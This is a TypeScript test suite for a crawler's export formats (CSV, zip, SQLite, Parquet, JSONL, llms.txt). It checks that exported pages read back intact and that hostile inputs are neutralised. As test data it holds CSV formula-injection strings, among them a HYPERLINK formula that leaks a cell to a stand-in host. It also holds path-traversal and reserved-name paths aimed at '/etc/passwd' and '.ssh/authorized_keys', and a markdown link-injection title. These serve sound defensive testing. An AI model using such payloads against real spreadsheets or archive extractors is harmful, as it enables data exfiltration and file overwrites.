// What sites put into pages, against what readers of files expect: every format is read back by a reader that is not ours.
import { mkdirSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { afterAll, describe, expect, test } from 'vitest';
import type { ExportFormat, ExportSlice } from '../../src/export/export-format.ts';
import { exportFormats, formatNamed, formatNames } from '../../src/export/formats.ts';
import { exported, folder, type Given, jobOf, newFile, stored } from './export-pages.ts';
import {
  isDuckDbMissing,
  isMissing,
  readCsv,
  readJsonl,
  readParquet,
  readSqlite,
  readWithDuckDb,
  readZip,
  unzip,
} from './readers.ts';

afterAll(() => rmSync(folder, { recursive: true }));

const noPython = isMissing('python3');
const noUnzip = isMissing('unzip');
const noSqlite = isMissing('sqlite3');
const noJq = isMissing('jq');

/** What real pages have: quotes, commas, line ends of all kinds, other scripts, emoji, nothing at all. */
const pages: readonly Given[] = [
  {
    url: 'https://site.test/',
    title: 'Start, "here"',
    description: 'Line\nbreak',
    text: '# Start\r\n\r\nText, "quoted"',
  },
  { url: 'https://site.test/de/stra%C3%9Fe', title: 'Straße', text: 'Grüße 🌾 ünïcode\u2028separator' },
  { url: 'https://site.test/ja/%E6%97%A5', title: '日本語', description: '説明', text: '本文\t。'.repeat(1000) },
  { url: 'https://site.test/he', title: 'עברית', text: '\u202eevil\u202c \ufeff zero\u200bwidth' },
  { url: 'https://site.test/empty' },
  {
    url: 'https://site.test/all?a=1&b=2',
    title: 'All fields',
    text: 'x',
    metadata: {
      language: 'en',
      author: 'A, B',
      publishedTime: '2026-01-31',
      contentType: 'text/html',
      statusCode: 200,
      wordCount: 1,
      change: 'changed',
      keywords: ['a', 'b'],
      rendered: true,
    },
  },
  { url: 'https://site.test/quote', title: "'quoted'", text: "' =1" },
];

const texts = pages.map(({ text = '' }) => text);

describe.skipIf(noPython)('csv (needs python3)', () => {
  const original = (cell = ''): string => cell.replace(/^'/, '');

  test('has every page with its text, number by number', async () => {
    const rows = readCsv(await exported('csv', pages));
    expect(rows.map(({ page }) => page)).toEqual(pages.map((_, index) => String(index + 1)));
    expect(rows.map(({ text }) => original(text))).toEqual(texts);
    expect(rows.map(({ title }) => original(title))).toEqual(pages.map(({ title = '' }) => title));
    expect(rows[5]).toMatchObject({ language: 'en', statusCode: '200', wordCount: '1', change: 'changed' });
    expect(JSON.parse(rows[5]?.['meta'] ?? '')).toMatchObject({ keywords: ['a', 'b'], rendered: true });
  });

  const formulas = [
    '=1+1',
    '+1',
    '-2',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '\u00a0=1',
    '\ufeff=cmd',
    '\u200b=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '- item of a list',
    `=HYPERLINK("http://evil.test?"&A1,"x")`,
    "'already",
    '\0=1',
  ];

  test.each(formulas)('no cell starts as a formula: %j', async (text) => {
    const [row] = readCsv(await exported('csv', [{ url: 'https://site.test/', title: text, description: text, text }]));
    for (const cell of [row?.['title'], row?.['description'], row?.['text']]) {
      expect(cell).toMatch(/^'/);
      expect(original(cell)).toBe(text.replaceAll('\0', '\ufffd'));
    }
  });

  test('a quote inside cannot begin another cell', async () => {
    const text = 'a",=1+1,"b\r\n",=2';
    const rows = readCsv(await exported('csv', [{ url: 'https://site.test/', text }]));
    expect(rows.map((row) => row['text'])).toEqual([text]);
  });
});

describe('zip', () => {
  test.skipIf(noPython || noUnzip)(
    'has a file for every page, whole for two readers (needs python3, unzip)',
    async () => {
      const file = await exported('zip', pages);
      unzip(file);
      const found = readZip(file);
      expect(Object.keys(found)).toEqual([
        'site.test/index.md',
        'site.test/de/straße.md',
        'site.test/ja/日.md',
        'site.test/he.md',
        'site.test/empty.md',
        'site.test/all_a=1&b=2.md',
        'site.test/quote.md',
      ]);
      for (const [index, content] of Object.values(found).entries()) {
        expect(content).toMatch(/^---\ntitle: /);
        expect(content).toContain(texts[index] ?? 'no such page');
      }
    },
  );

  test.skipIf(noPython)('files of a job in text and in HTML have its endings (needs python3)', async () => {
    const [one] = pages;
    for (const [outputFormat, ending] of [
      ['text', 'txt'],
      ['html', 'html'],
    ] as const)
      expect(Object.keys(readZip(await exported('zip', [one!], { outputFormat })))).toEqual([
        `site.test/index.${ending}`,
      ]);
  });

  /** Paths that other archives were attacked with, and those that differ only where some file systems see none. */
  const hostile = [
    '/../../etc/passwd',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/..%2f..%2fetc%2fpasswd',
    '/..%5c..%5cwindows%5cwin.ini',
    '/..\\..\\windows',
    '/C:%5cboot.ini',
    '/a%00b.php',
    '/%00',
    '/con',
    '/CON.txt',
    '/aux.html',
    '/nul',
    '/com1',
    '/lpt9.md',
    '/COM%C2%B9',
    '/.bashrc',
    '/.ssh/authorized_keys',
    '/trailing.',
    '/trailing%20',
    '/a%0ab',
    '/a%7f',
    '/%e2%80%ae/gpj.exe',
    '/Case',
    '/case',
    '/CASE',
    '/stra%C3%9Fe',
    '/STRASSE',
    '/caf%C3%A9',
    '/cafe%CC%81',
    '/%ff%fe',
    '/a:b*c%3Fd%22e%3Cf%3Eg%7Ch',
    `/${'long'.repeat(500)}`,
    `/${'long'.repeat(500)}2`,
    `/${'deep/'.repeat(400)}end`,
    '/dir.md/file',
    '/dir',
    '/dir.md',
    '//double//slash',
    '/~root',
    '/-rf',
    '/a?b=../../c',
    '/index',
    '/index.html',
    '/',
  ];

  test.skipIf(noPython || noUnzip)('no name leaves the folder, or meets another (needs python3, unzip)', async () => {
    const given = hostile.map((urlPath, index) => ({
      url: new URL(`https://site.test${urlPath}`).href,
      text: `number ${index}`,
    }));
    const file = await exported('zip', given);
    const names = Object.keys(readZip(file));
    expect(names).toHaveLength(hostile.length);
    // As the file systems of macOS and Windows compare them.
    const folded = names.map((name) => name.normalize('NFD').toUpperCase().toLowerCase());
    expect(new Set(folded).size).toBe(hostile.length);
    for (const name of names) {
      expect(name).toMatch(/^site\.test\/[^\p{Cc}\\:*?"<>|]+\.md$/u);
      for (const part of name.split('/')) {
        expect(part).not.toMatch(/^\.|[. ]$|^(con|prn|aux|nul|com\d|lpt\d)(\.|$)/i);
        expect(Buffer.byteLength(part)).toBeLessThanOrEqual(255);
      }
    }
    const into = path.join(folder, 'unpacked/here');
    mkdirSync(into, { recursive: true });
    unzip(file, into);
    expect(readdirSync(path.join(folder, 'unpacked'))).toEqual(['here']);
    const unpacked = readdirSync(into, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
    expect(unpacked).toHaveLength(hostile.length);
  });
});

describe.skipIf(noSqlite)('sqlite (needs sqlite3)', () => {
  test('has a row for every page', async () => {
    const rows = readSqlite<Record<string, unknown>>(await exported('sqlite', pages));
    expect(rows.map(({ text }) => text)).toEqual(texts);
    expect(rows[1]).toMatchObject({ page: 2, url: pages[1]?.url, fetchedUrl: pages[1]?.url, title: 'Straße' });
    expect(rows[5]).toMatchObject({ statusCode: 200, wordCount: 1, language: 'en', change: 'changed' });
    expect(rows[4]).toMatchObject({ statusCode: null, language: null, text: '' });
    expect(JSON.parse(String(rows[5]?.['meta']))).toMatchObject({ keywords: ['a', 'b'] });
  });
});

describe('parquet', () => {
  test('has a row for every page', async () => {
    const rows = await readParquet(await exported('parquet', pages));
    expect(rows.map(({ text }) => text)).toEqual(texts);
    expect(rows.map(({ page }) => page)).toEqual(pages.map((_, index) => index + 1));
    expect(rows[5]).toMatchObject({
      statusCode: 200,
      wordCount: 1,
      author: 'A, B',
      change: 'changed',
      meta: { keywords: ['a', 'b'] },
    });
    expect(rows[4]).toMatchObject({ text: '', title: '' });
    expect(rows[4]?.['language']).toBeNull();
  });

  test.skipIf(isDuckDbMissing)('DuckDB reads the same (needs DuckDB)', async () => {
    const { columns, rows } = readWithDuckDb(await exported('parquet', pages));
    expect(rows.map(({ text }) => text)).toEqual(texts);
    expect(rows.map(({ page }) => Number(page))).toEqual(pages.map((_, index) => index + 1));
    expect(rows[4]).toMatchObject({ text: '', language: null });
    expect(columns).toMatchObject({ page: 'INTEGER', text: 'VARCHAR', meta: 'JSON' });
  });

  test('more pages than one row group', async () => {
    const many = Array.from({ length: 1_234 }, (_, index) => ({ url: `https://site.test/${index}`, text: `${index}` }));
    const rows = await readParquet(await exported('parquet', many));
    expect(rows.map(({ text }) => text)).toEqual(many.map(({ text }) => text));
  });
});

describe('jsonl', () => {
  interface Line {
    readonly meta?: { readonly page: number; readonly url: string };
    readonly text?: string;
  }

  test.skipIf(noJq)('has a line for every page and no other (needs jq)', async () => {
    const lines = readJsonl<Line>(await exported('jsonl', pages));
    expect(lines.map(({ text }) => text)).toEqual(texts);
    expect(lines.map(({ meta }) => meta?.url)).toEqual(pages.map(({ url }) => url));
  });

  test('packed, it is the same', async () => {
    const plain = readFileSync(await exported('jsonl', pages));
    const packed = readFileSync(await exported('jsonl', pages, { isPacked: true }));
    expect(gunzipSync(packed).equals(plain)).toBe(true);
  });
});

describe('llms.txt', () => {
  test('lists every page once, by its first directory', async () => {
    const text = readFileSync(await exported('llms.txt', pages), 'utf8');
    expect(text).toMatch(
      /^# site\.test\n\n> 7 pages from https:\/\/site\.test\/, crawled on 2026-01-31\.\n\n## Pages\n\n- /,
    );
    expect(text).toContain('- [Start, "here"](https://site.test/): Line break\n');
    expect(text).toContain('## de\n\n- [Straße](https://site.test/de/stra%C3%9Fe)\n');
    for (const { url } of pages) expect(text.split(`](${url})`)).toHaveLength(2);
  });

  test('a title cannot end its link, and an address cannot either', async () => {
    const given = [{ url: 'https://site.test/a)b', title: 'x](http://evil.test) <b>\n# y', description: '[z](u)' }];
    const text = readFileSync(await exported('llms.txt', given), 'utf8');
    expect(text).toContain(String.raw`- [x\](http://evil.test) \<b\> # y](https://site.test/a%29b): \[z\](u)` + '\n');
  });

  test('a site with a directory for every page has a limited number of sections', async () => {
    const given = Array.from({ length: 1_000 }, (_, index) => ({ url: `https://site.test/d${index}/page` }));
    const text = readFileSync(await exported('llms.txt', given), 'utf8');
    expect(text.match(/^## /gm)).toHaveLength(101);
    expect(text.match(/^- /gm)).toHaveLength(1_000);
  });

  test('the full text has every page below its title and source', async () => {
    const text = readFileSync(await exported('llms-full.txt', pages), 'utf8');
    for (const given of pages) expect(text).toContain(`\n\nSource: ${given.url}\n\n${given.text ?? ''}`);
  });
});

describe('every format', () => {
  test.each(formatNames)('%s gives the same bytes for the same pages', async (name) => {
    const [one, two] = await Promise.all([exported(name, pages), exported(name, pages)]);
    expect(readFileSync(one).equals(readFileSync(two))).toBe(true);
  });

  test.skipIf(noPython || noSqlite || noJq || noUnzip)(
    'of a job without pages is valid (needs all readers)',
    async () => {
      expect(readCsv(await exported('csv', []))).toEqual([]);
      expect(readZip(await exported('zip', []))).toEqual({});
      expect(readSqlite(await exported('sqlite', []))).toEqual([]);
      expect(await readParquet(await exported('parquet', []))).toEqual([]);
      expect(readJsonl(await exported('jsonl', []))).toEqual([]);
      expect(readFileSync(await exported('llms.txt', []), 'utf8')).toContain('> 0 pages');
      expect(readFileSync(await exported('llms-full.txt', []), 'utf8')).toContain('> 0 pages');
    },
  );

  test.each(formatNames)('%s refuses a text that is not what was stored', async (name) => {
    const format: ExportFormat = exportFormats[name];
    const slices = async function* (): AsyncGenerator<ExportSlice> {
      const { body } = stored({ url: 'https://site.test/', text: 'text' }, 1);
      yield { pages: [{ page: 1, body: { ...body, crc: body.crc ^ 1 } }] };
    };
    const write = async (): Promise<void> => {
      if ('loadWriter' in format)
        return (await format.loadWriter())(slices(), jobOf([], 'markdown'), newFile(), {
          directory: folder,
          diskFreeMb: 0,
        });
      for await (const _ of (await format.load())(slices(), jobOf([], 'markdown')));
    };
    await expect(write()).rejects.toThrow('page 1 differs from what was stored');
  });
});

test.each(['', 'xlsx', 'JSONL', 'constructor', '__proto__', 'toString'])('there is no format %j', (name) => {
  expect(() => formatNamed(name)).toThrow(
    expect.objectContaining({ code: 'invalid_parameter', message: expect.stringContaining(formatNames.join(', ')) }),
  );
});

test('formatNamed: knows warc, which is made of raw bodies', () => {
  expect(formatNamed('warc')).toBe('warc');
});
